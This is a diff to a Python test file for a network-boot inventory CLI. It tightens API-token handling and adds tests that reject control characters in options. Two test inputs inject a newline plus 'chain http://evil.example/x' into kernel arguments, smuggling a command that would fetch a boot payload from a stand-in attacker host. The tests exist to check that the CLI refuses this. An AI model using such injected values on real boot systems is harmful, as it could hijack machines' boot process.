@@ -67,26 +67,65 @@ def test_needs_config_or_server():
 
 def test_remote_with_token(data_dir):
     write_fake_image(data_dir, "demo")
-    srv = LiveServer(data_dir, '[api]\ntoken = "tkn"\n')
+    srv = LiveServer(data_dir, '[api]\ntoken = "tkn-0123"\n')
     try:
         r = run("add", MAC, "--image", "demo", "--server", srv.base)
         assert r.exit_code == 1 and "server said 401" in r.output
-        r = run("add", MAC, "--image", "demo", "--hostname", "remote1", "--server", srv.base, "--token", "tkn")
+        r = run("list", "--server", srv.base)
+        assert r.exit_code == 1 and "server said 401" in r.output  # reads too
+        r = run("add", MAC, "--image", "demo", "--hostname", "remote1", "--server", srv.base, "--token", "tkn-0123")
         assert r.exit_code == 0, r.output
         srv.run(lambda: srv.events.record(MAC, "dhcp-offer"))
         srv.report(MAC, "events", {"stage": "booted"})
         srv.report(MAC, "inventory", {"cpu": {"model": "Xeon", "count": 8}, "memory_kib": 8388608})
         srv.run(srv.events.flush)
-        r = run("list", "--server", srv.base)
+        r = CliRunner(env={"RAMBOOT_TOKEN": "tkn-0123"}).invoke(node, ["list", "--server", srv.base])
         assert r.exit_code == 0 and "remote1" in r.output and "booted" in r.output
-        r = run("show", MAC, "--server", srv.base)
+        r = run("show", MAC, "--server", srv.base, "--token", "tkn-0123")
         assert r.exit_code == 0 and "cpu: 8 x Xeon" in r.output and "last boot: booted" in r.output and "dhcp-offer" in r.output
-        assert run("rm", MAC, "--server", srv.base, "--token", "tkn").exit_code == 0
+        assert run("rm", MAC, "--server", srv.base, "--token", "tkn-0123").exit_code == 0
         assert srv.store.get_node(MAC) is None
     finally:
         srv.close()
-    r = run("list", "--server", srv.base)
+    r = run("list", "--server", srv.base, "--token", "tkn-0123")
     assert r.exit_code == 1 and "cannot reach" in r.output
+
+
+def test_remote_reads_the_token_serve_made(data_dir, cfg):
+    """No --token: with --config, the CLI uses the DATA/api-token that `serve` made there (0600)."""
+    srv = LiveServer(data_dir, "")
+    try:
+        made = data_dir / "api-token"
+        assert made.stat().st_mode & 0o777 == 0o600 and len(made.read_text().strip()) >= 40
+        assert run("add", MAC, "--image", "demo", "--server", srv.base).exit_code == 1  # no config: no token
+        r = run("add", MAC, "--image", "demo", "--server", srv.base, "--config", cfg)
+        assert r.exit_code == 0, r.output
+        assert srv.store.get_node(MAC) is not None
+    finally:
+        srv.close()
+
+
+@pytest.mark.parametrize("args,hint", [
+    (["add", MAC, "--image", "demo", "--kernel-args", "quiet\nchain http://evil.example/x"], "--kernel-args"),
+    (["add", MAC, "--image", "demo", "--kernel-args", "quiet\rx"], "--kernel-args"),
+    (["add", MAC, "--image", "demo", "--label", "rack=a1\tb"], "--label"),
+    (["add", MAC, "--image", "demo", "--hostname", "n1\n"], "--hostname"),
+    (["add", MAC, "--image", "demo", "--overlay", "o\n"], "--overlay"),
+])
+def test_control_characters_are_refused_by_the_cli(cfg, data_dir, args, hint):
+    r = run(*args, "--config", cfg)
+    errors = [ln for ln in r.output.splitlines() if ln.startswith("Error:")]
+    assert r.exit_code == 2 and len(errors) == 1 and hint in errors[0], r.output  # one line, naming the option
+    assert "Traceback" not in r.output
+    r = CliRunner().invoke(node, ["list", "--config", cfg])
+    assert MAC not in r.output  # nothing was stored
+
+
+def test_profile_kernel_args_with_a_newline_refused(cfg):
+    from ramboot.inventory.cli import profile
+
+    r = CliRunner().invoke(profile, ["add", "p1", "--kernel-args", "a\nchain http://evil.example/x", "--config", cfg])
+    assert r.exit_code == 2 and "--kernel-args" in r.output and "control character" in r.output, r.output
 
 
 def test_real_subprocess(cfg):
@@ -107,7 +146,7 @@ def test_warnings_are_the_same_locally_and_over_the_api(data_dir, cfg):
     (data_dir / "images" / "unsigned" / "image.toml").write_text(m.to_toml())
     srv = LiveServer(data_dir, "")
     try:
-        for where in (["--config", cfg], ["--server", srv.base]):
+        for where in (["--config", cfg], ["--server", srv.base, "--config", cfg]):
             r = CliRunner().invoke(node, ["add", MAC, "--image", "nosuch", *where], catch_exceptions=False)
             assert r.exit_code == 0 and "warning: " in r.output and "will not boot until it is built" in r.output
             r = CliRunner().invoke(node, ["add", MAC, "--image", "unsigned", "--loader", "grub", *where],
